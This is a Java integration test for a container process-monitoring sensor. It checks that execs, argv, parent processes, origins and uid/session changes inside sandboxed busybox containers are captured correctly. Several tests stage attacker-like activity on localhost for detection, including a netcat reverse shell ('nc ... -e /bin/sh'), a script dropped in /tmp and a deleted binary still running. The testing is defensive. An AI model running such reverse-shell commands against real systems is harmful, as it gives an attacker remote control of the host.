package dev.vigil.sensor.proc;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.common.Metrics;
import dev.vigil.event.Event;
import dev.vigil.event.ExecOrigin;
import dev.vigil.event.ProcessChange;
import dev.vigil.event.ProcessExec;
import dev.vigil.sensor.docker.DockerConnection;
import dev.vigil.sensor.docker.DockerEventsSensor;
import dev.vigil.sensor.docker.DockerInventory;
import dev.vigil.sensor.docker.DockerSettings;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The netlink process sensor against the real kernel and real containers: every exec staged in a container comes
 * out as a ProcessExec with the container's id, exact argv, parent, origin and kernel details. Containers run
 * without network; every connection targets 127.0.0.1 inside the container.
 */
class NetlinkProcessSensorIT {

  private static final String IMAGE = "vigil-test/busybox:1";
  private static final String PREFIX = "vigil-proc-it-";
  private static final Duration WAIT = Duration.ofSeconds(20);

  /** An event as it reached the sink, with the wall-clock time it got there. */
  private record Arrival(ProcessExec exec, Instant at) {}

  private static DockerConnection conn;
  private static DockerInventory inventory;
  private static DockerEventsSensor dockerEvents;
  private static NetlinkProcessSensor sensor;
  private static final Metrics METRICS = Metrics.inMemory();
  // Not CopyOnWriteArrayList: thousands of adds would each copy the array, and the garbage means GC pauses.
  private static final Queue<Arrival> EXECS = new ConcurrentLinkedQueue<>();
  private static final Queue<Event> OTHERS = new ConcurrentLinkedQueue<>();

  @BeforeAll
  static void start() throws Exception {
    assertThat(NetlinkProcConnector.unavailableReason()).as("connector usable (run as root)").isEmpty();
    removeContainers();
    conn = DockerConnection.open(DockerSettings.defaults());
    inventory = new DockerInventory(conn);
    // The events sensor keeps the inventory current (init pid, health check, upper dir of new containers).
    dockerEvents = new DockerEventsSensor(conn, inventory, e -> true, METRICS, Duration.ofSeconds(1),
        Duration.ofMinutes(5));
    dockerEvents.start();
    sensor = new NetlinkProcessSensor(inventory, e -> {
      if (e instanceof ProcessExec) {
        EXECS.add(new Arrival((ProcessExec) e, Instant.now()));
      } else {
        OTHERS.add(e);
      }
      return true;
    }, Clock.systemUTC(), METRICS);
    sensor.start();
  }

  @AfterAll
  static void stop() {
    if (sensor != null) {
      sensor.close();
    }
    if (dockerEvents != null) {
      dockerEvents.close();
    }
    removeContainers();
    if (conn != null) {
      conn.close();
    }
  }

  @Test
  void wgetStartedByTheEntrypointShell_hasContainerArgvParentAndOrigin() throws Exception {
    String id = run("wget", "sleep 1; wget -q -O- http://127.0.0.1:1/x; sleep 60");

    ProcessExec p = await(id, e -> e.name().equals("wget"));
    assertThat(p.sensor()).isEqualTo("kernel.proc");
    assertThat(p.args()).containsExactly("wget", "-q", "-O-", "http://127.0.0.1:1/x");
    assertThat(p.exePath()).isEqualTo("/bin/busybox");
    assertThat(p.ancestors()).isNotEmpty();
    assertThat(p.ancestors().get(0).name()).isEqualTo("sh");
    assertThat(p.ancestors().get(0).cmdline()).startsWith("sh -c sleep 1; wget");
    assertThat(p.ppid()).isEqualTo(p.ancestors().get(0).pid());
    assertThat(p.origin()).isEqualTo(ExecOrigin.CONTAINER);
    assertThat(p.uid()).isZero();
    assertThat(p.details()).isNotNull();
    assertThat(p.details().exeUpperLayer()).isFalse();
    assertThat(p.details().cwd()).isEqualTo("/");
  }

  @Test
  void reverseShell_stdinIsTheTcpConnectionTo127001() throws Exception {
    // busybox nc wants -e last: everything after it is the program to run on the connection.
    String id = run("revsh", "(sleep 20 | nc -l -p 4444 > /dev/null) & sleep 1; nc 127.0.0.1 4444 -e /bin/sh;"
        + " sleep 60");

    ProcessExec sh = await(id, e -> e.exePath().equals("/bin/busybox")
        && e.details() != null && "ipv4".equals(e.details().stdinType()));
    assertThat(sh.name()).isEqualTo("sh");
    assertThat(sh.details().stdinRemote()).isEqualTo("127.0.0.1:4444");
    assertThat(sh.details().stdoutType()).isEqualTo("ipv4");
    // The listener's side: its stdin is the pipe from sleep, so no socket there.
    ProcessExec listener = await(id, e -> e.args().contains("-l"));
    assertThat(listener.details().stdinType()).isEqualTo("pipe");
  }

  @Test
  void binariesWrittenInTheContainer_areInTheUpperLayer_imageBinariesAreNot() throws Exception {
    String id = run("upper", "sleep 1; cp /bin/busybox /tmp/sleep; /tmp/sleep 0.1; /bin/sh -c 'sleep 0.1';"
        + " mkdir /tmp/d; cp /bin/busybox /tmp/d/sleep; /tmp/d/sleep 30 & sleep 0.3; rm /tmp/d/sleep; sleep 60");

    ProcessExec copied = await(id, e -> e.exePath().equals("/tmp/sleep"));
    assertThat(copied.details().exeUpperLayer()).isTrue();
    assertThat(copied.args()).containsExactly("/tmp/sleep", "0.1");
    ProcessExec image = await(id, e -> e.args().equals(List.of("/bin/sh", "-c",
        "sleep 0.1")));
    assertThat(image.details().exeUpperLayer()).isFalse();

    ProcessExec deletedLater = await(id, e -> e.exePath().equals("/tmp/d/sleep"));
    assertThat(deletedLater.details().exeUpperLayer()).isTrue();
    // Once deleted, the kernel marks the running executable; the reader sees that even without the upper dir.
    long pid = deletedLater.pid();
    ExecReader reader = new ExecReader(ProcFs.host());
    awaitTrue(() -> reader.capture(pid).exeLink().endsWith(" (deleted)"));
    ExecReader.Capture now = reader.capture(pid);
    assertThat(now.exePath()).isEqualTo("/tmp/d/sleep");
    assertThat(reader.details(now, "", pid).exeUpperLayer()).isTrue();
  }

  @Test
  void scriptDroppedInTmp_isSeenWithItsArgv() throws Exception {
    String id = run("script", "sleep 1; printf '#!/bin/sh\\nsleep 0.2\\n' > /tmp/drop.sh; chmod +x /tmp/drop.sh;"
        + " /tmp/drop.sh one 'two words'; sleep 60");

    ProcessExec p = await(id, e -> e.args().contains("/tmp/drop.sh"));
    assertThat(p.args()).containsExactly("/bin/sh", "/tmp/drop.sh", "one", "two words");
    assertThat(p.name()).isEqualTo("drop.sh");
    ProcessExec child = await(id, e -> e.name().equals("sleep")
        && e.args().equals(List.of("sleep", "0.2")));
    assertThat(child.ancestors().get(0).cmdline()).isEqualTo("drop.sh /tmp/drop.sh one two words");
  }

  @Test
  void dockerExec_isDockerExec_healthcheck_isHealthcheck() throws Exception {
    String id = run("origin", "sleep 60", "--health-cmd", "wget -q -O- http://127.0.0.1:1/health || true",
        "--health-interval", "1s");
    awaitTrue(() -> inventory.find(id).isPresent());
    // /bin/ls with its path: busybox sh runs a bare "ls" in a forked child without exec.
    docker("exec", id, "sh", "-c", "/bin/ls / > /dev/null; sleep 0.1");

    ProcessExec execSh = await(id, e -> e.name().equals("sh")
        && e.args().equals(List.of("sh", "-c", "/bin/ls / > /dev/null; sleep 0.1")));
    assertThat(execSh.origin()).isEqualTo(ExecOrigin.DOCKER_EXEC);
    assertThat(execSh.ancestors()).isEmpty();
    ProcessExec ls = await(id, e -> e.name().equals("ls"));
    assertThat(ls.origin()).isEqualTo(ExecOrigin.DOCKER_EXEC);
    assertThat(ls.ancestors().get(0).pid()).isEqualTo(execSh.pid());

    ProcessExec probe = await(id, e -> e.name().equals("wget"));
    assertThat(probe.origin()).isEqualTo(ExecOrigin.HEALTHCHECK);
    assertThat(probe.args()).containsExactly("wget", "-q", "-O-", "http://127.0.0.1:1/health");
    assertThat(probe.ancestors().get(0).cmdline()).isEqualTo("sh -c wget -q -O- http://127.0.0.1:1/health || true");
    ProcessExec init = await(id, e -> e.args().equals(List.of("sleep", "60")));
    assertThat(init.origin()).isEqualTo(ExecOrigin.CONTAINER);
  }

  @Test
  void userGroupAndSessionChanges_ofContainerProcesses() throws Exception {
    String id = run("ids", "sleep 60");
    awaitTrue(() -> inventory.find(id).isPresent());
    // busybox su sets the group, then the user (root -> nobody).
    docker("exec", id, "su", "-s", "/bin/sh", "nobody", "-c", "true");
    awaitTrue(() -> changes(id).stream().anyMatch(c -> c.what() == ProcessChange.What.SETUID));
    // setsid run by a shell that forked it (so it is no process-group leader and calls setsid() itself).
    docker("exec", id, "sh", "-c", "setsid sleep 0.2; true");
    awaitTrue(() -> changes(id).stream().anyMatch(c -> c.what() == ProcessChange.What.SETSID));
    List<ProcessChange> changes = changes(id);
    assertThat(changes).anySatisfy(c -> {
      assertThat(c.what()).isEqualTo(ProcessChange.What.SETUID);
      assertThat(c.previousId()).isZero();
      assertThat(c.realId()).isEqualTo(65534);
      assertThat(c.process().name()).isEqualTo("su");
      assertThat(c.process().uid()).isEqualTo(65534);
    });
    assertThat(changes).anySatisfy(c -> {
      assertThat(c.what()).isEqualTo(ProcessChange.What.SETGID);
      assertThat(c.realId()).isEqualTo(65534);
    });
    assertThat(changes).filteredOn(c -> c.what() == ProcessChange.What.SETSID)
        .allSatisfy(c -> assertThat(c.realId()).isEqualTo(c.process().pid()));
  }

  private static List<ProcessChange> changes(String containerId) {
    return OTHERS.stream().filter(e -> e instanceof ProcessChange && e.container().id().equals(containerId))
        .map(e -> (ProcessChange) e).toList();
  }

  @Test
  void thousandShortExecs_atLeast99PercentSeenWithContainerAndExe() throws Exception {
    long lostBefore = sensor.lost();
    long vanishedBefore = METRICS.count("vigil.proc.vanished", "sensor", "kernel.proc");
    String id = run("storm", "sleep 1; for i in $(seq 1000); do /bin/true; done; echo done; sleep 60");
    awaitTrue(() -> docker("logs", id).contains("done"));
    Thread.sleep(500);

    // Each /bin/true lives ~0.3 ms after its exec; one seen at all has at least its name or argv.
    List<Arrival> trues = EXECS.stream().filter(a -> a.exec().container().id().equals(id)
        && (a.exec().name().equals("true") || a.exec().args().equals(List.of("/bin/true")))).toList();
    long withExe = trues.stream().filter(a -> a.exec().exePath().equals("/bin/busybox")).count();
    long withArgv = trues.stream().filter(a -> a.exec().args().equals(List.of("/bin/true"))).count();
    long[] latencyMicros = trues.stream()
        .mapToLong(a -> Duration.between(a.exec().time(), a.at()).toNanos() / 1000).sorted().toArray();
    System.out.printf("[proc-it] 1000 execs: %d events, %d with exe path, %d with argv, %d reaped unread,"
            + " %d lost by the kernel; exec->event latency us: p50=%d p99=%d max=%d%n", trues.size(), withExe,
        withArgv, METRICS.count("vigil.proc.vanished", "sensor", "kernel.proc") - vanishedBefore,
        sensor.lost() - lostBefore, pct(latencyMicros, 50), pct(latencyMicros, 99), pct(latencyMicros, 100));
    assertThat(withExe).isGreaterThanOrEqualTo(990);
    assertThat(trues).allMatch(a -> a.exec().origin() == ExecOrigin.CONTAINER);
    assertThat(trues).allMatch(a -> a.exec().ancestors().get(0).name().equals("sh"));
  }

  private static long pct(long[] sorted, int p) {
    if (sorted.length == 0) {
      return -1;
    }
    return sorted[Math.min(sorted.length - 1, (int) Math.ceil(p / 100.0 * sorted.length) - 1)];
  }

  private static String run(String what, String script, String... options) {
    String name = PREFIX + what + "-" + Long.toString(System.nanoTime() % 1_000_000_000L, 36);
    List<String> a = new ArrayList<>(List.of("run", "-d", "--name", name, "--network", "none", "--stop-timeout",
        "1"));
    a.addAll(Arrays.asList(options));
    a.addAll(List.of(IMAGE, "sh", "-c", script));
    String id = docker(a.toArray(String[]::new));
    assertThat(id).matches("[0-9a-f]{64}");
    return id;
  }

  /** The first event from container {@code id} that matches, waiting for it. */
  private static ProcessExec await(String id, Predicate<ProcessExec> match) throws InterruptedException {
    long end = System.nanoTime() + WAIT.toNanos();
    while (System.nanoTime() < end) {
      for (Arrival a : EXECS) {
        if (a.exec().container().id().equals(id) && match.test(a.exec())) {
          return a.exec();
        }
      }
      Thread.sleep(50);
    }
    throw new AssertionError("no matching ProcessExec within " + WAIT + "; the container's:" + describe(id));
  }

  private static String describe(String id) {
    StringBuilder sb = new StringBuilder();
    EXECS.stream().map(Arrival::exec).filter(e -> e.container().id().equals(id)).limit(40).forEach(e -> sb
        .append("\n  ").append(e.pid()).append('<').append(e.ppid()).append(' ').append(e.name()).append(' ')
        .append(e.exePath()).append(' ').append(e.args()).append(' ').append(e.origin()).append(' ')
        .append(e.details()).append(" anc=").append(e.ancestors()));
    return sb.toString();
  }

  private static void awaitTrue(java.util.function.BooleanSupplier condition) throws InterruptedException {
    long end = System.nanoTime() + WAIT.toNanos();
    while (!condition.getAsBoolean()) {
      if (System.nanoTime() > end) {
        throw new AssertionError("condition not met within " + WAIT);
      }
      Thread.sleep(50);
    }
  }

  private static void removeContainers() {
    String ids = docker("ps", "-aq", "--filter", "name=" + PREFIX);
    if (!ids.isBlank()) {
      List<String> a = new ArrayList<>(List.of("rm", "-f"));
      a.addAll(Arrays.asList(ids.split("\\s+")));
      docker(a.toArray(String[]::new));
    }
  }

  private static String docker(String... args) {
    List<String> cmd = new ArrayList<>(List.of("docker"));
    cmd.addAll(List.of(args));
    try {
      Process p = new ProcessBuilder(cmd).redirectErrorStream(true)
          .redirectInput(ProcessBuilder.Redirect.from(new java.io.File("/dev/null"))).start();
      String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      if (!p.waitFor(60, TimeUnit.SECONDS)) {
        p.destroyForcibly();
      }
      return out.trim();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }
}
